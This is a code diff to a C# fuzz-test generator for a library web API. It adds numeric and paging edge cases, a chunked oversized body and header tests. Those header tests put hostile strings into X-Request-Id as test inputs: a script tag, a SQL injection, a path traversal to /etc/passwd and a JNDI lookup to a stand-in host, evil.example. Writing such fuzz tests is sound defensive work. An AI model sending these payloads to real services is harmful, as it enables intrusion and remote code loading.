@@ -23,7 +23,7 @@ public enum Expect
 public sealed record FuzzCase(
     int Number, string Family, Endpoint Endpoint, string Caller, string Method, string PathAndQuery,
     byte[]? Body, string? ContentType, string? Authorization, IReadOnlyDictionary<string, string>? Headers,
-    Expect Expect, int[] Statuses, string Note, IReadOnlyDictionary<string, string>? SentText, bool MustNotChange = false)
+    Expect Expect, int[] Statuses, string Note, IReadOnlyDictionary<string, string>? SentText, bool MustNotChange = false, bool Chunked = false)
 {
     public override string ToString()
     {
@@ -73,6 +73,7 @@ public sealed class Generator(World world, int seed)
                 }
             }
             AuthFamily(endpoint);
+            HeaderTricks(endpoint);
         }
         return _cases;
     }
@@ -134,10 +135,23 @@ public sealed class Generator(World world, int seed)
                 Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, number.Name, huge), Expect.Any, $"{number.Name}={huge}");
             }
         }
+        // Every number field of the contract at its edges, for a caller who may call the endpoint.
+        if (MayCall(e, caller))
+        {
+            foreach (var f in e.Body.Where(f => IsNumber(f.Kind)))
+            {
+                foreach (var edge in Payloads.NumberEdges)
+                {
+                    Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, f.Name, edge), Expect.Any, $"{f.Name}={edge}");
+                }
+            }
+        }
         var text = e.Body.Where(f => IsText(f.Kind)).ToArray();
         var target = text.Length > 0 ? Pick(text) : Pick(e.Body);
         var megabyte = new string('x', 1024 * 1024);
         Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, target.Name, JsonSerializer.Serialize(megabyte)), "application/json", Exactly(413), $"{target.Name} of 1 MB (over the body limit)");
+        // The same, chunked (no Content-Length): Kestrel's own limit stops it while it is read.
+        _cases.Add(_cases[^1] with { Number = _cases.Count + 1, Chunked = true, Note = $"{target.Name} of 1 MB, chunked", Expect = Expect.Exactly, Statuses = [413] });
         var big = string.Concat(Enumerable.Repeat("Ab1 ", 15_000));
         Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, target.Name, JsonSerializer.Serialize(big)), mayAct ? Expect.Any : expectRefused, $"{target.Name} of 60,000 chars");
         var depth = Pick(new[] { 65, 500, 5000 });
@@ -188,6 +202,16 @@ public sealed class Generator(World world, int seed)
             Add(Payloads.Injection, e, caller, e.Method, WithQuery(e, caller, path, q.Name, Uri.EscapeDataString(Pick(Payloads.InjectionStrings))), null, null, Expect.Any, $"{q.Name} injection");
             Add(Payloads.Unicode, e, caller, e.Method, WithQuery(e, caller, path, q.Name, Pick(Payloads.EncodedUnicode)), null, null, Expect.Any, $"{q.Name} unicode");
         }
+        if (MayCall(e, caller))
+        {
+            foreach (var q in e.Query.Where(q => q.Kind is FieldKind.Page or FieldKind.PageSize or FieldKind.Limit))
+            {
+                foreach (var edge in Payloads.PagingEdges)
+                {
+                    Add(Payloads.Huge, e, caller, e.Method, WithQuery(e, caller, path, q.Name, edge), null, null, Expect.Refused, $"{q.Name}={edge}");
+                }
+            }
+        }
         foreach (var q in e.Query.Where(q => IsText(q.Kind)))
         {
             Add(Payloads.Unicode, e, caller, e.Method, WithQuery(e, caller, path, q.Name, "a%00b"), null, null, Expect.Any, $"{q.Name} with NUL");
@@ -225,7 +249,10 @@ public sealed class Generator(World world, int seed)
                 .Replace("{long}", new string('7', 3000), StringComparison.Ordinal);
             var (body, type) = e.HasBody ? (Encoding.UTF8.GetBytes(ValidBody(e, caller).Json), "application/json") : ((byte[]?)null, (string?)null);
             // A GUID in another form is still a GUID: a librarian may act on it (404: nobody has it).
-            Add(Payloads.PathTricks, e, caller, e.Method, e.Path.Replace("{id}", id, StringComparison.Ordinal), body, type, Expect.Refused, $"id '{(id.Length > 40 ? id[..40] + "…" : id)}'");
+            // An encoded dot segment is resolved before routing ("/api/authors/%2e%2e/books" is
+            // "/api/books"): another path of the contract, with the same token and the same rights.
+            var expect = id == "%2e%2e" ? Expect.Any : Expect.Refused;
+            Add(Payloads.PathTricks, e, caller, e.Method, e.Path.Replace("{id}", id, StringComparison.Ordinal), body, type, expect, $"id '{(id.Length > 40 ? id[..40] + "…" : id)}'");
         }
         var verb = e.Method == "GET" ? "PATCH" : "PATCH";
         Add(Payloads.PathTricks, e, caller, verb, ValidPath(e, caller), null, null, Expect.Refused, "a verb the contract does not have");
@@ -311,6 +338,33 @@ public sealed class Generator(World world, int seed)
             case "POST /api/users/{id}/deactivate":
                 Add(Payloads.AuthTricks, e, "admin", e.Method, $"/api/users/{world.Admin.Id}/deactivate", null, null, Exactly(409), "an admin deactivating themself");
                 break;
+        }
+    }
+
+    /// <summary>Headers a client controls: what it accepts back, and the request ID the gateway forwards.</summary>
+    private void HeaderTricks(Endpoint e)
+    {
+        // Not as staff: their valid request would delete the world's titles, authors and categories.
+        var caller = Pick(new[] { "anonymous", "reader" });
+        var (body, type) = e.HasBody ? (Encoding.UTF8.GetBytes(ValidBody(e, "anonymous").Json), "application/json") : ((byte[]?)null, (string?)null);
+        (string Family, string Header, string Value)[] tricks =
+        [
+            (Payloads.WrongContentType, "Accept", Pick(new[] { "application/xml", "text/html", "image/png", "application/json;q=0", "*/*;q=abc", "" })),
+            (Payloads.Huge, "X-Request-Id", new string('r', 5000)),
+            (Payloads.Injection, "X-Request-Id", Pick(new[] { "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "${jndi:ldap://evil.example/a}" })),
+        ];
+        foreach (var (family, header, value) in tricks)
+        {
+            var authorization = caller switch
+            {
+                "reader" => $"Bearer {world.ReaderA.Access}",
+                "librarian" => $"Bearer {world.Librarian.Access}",
+                _ => null,
+            };
+            // The path of a caller who may not use it (anonymous on a reader's endpoint): a refusal
+            // the framework writes (401, 403, 404), whose problem details the Accept header must not undo.
+            _cases.Add(new FuzzCase(_cases.Count + 1, family, e, caller, e.Method, ValidPath(e, caller), body, type, authorization,
+                new Dictionary<string, string> { [header] = value }, MayCall(e, caller) ? Expect.Any : Expect.Refused, [], $"{header}: {Show(value)}", SentText(body)));
         }
     }
 
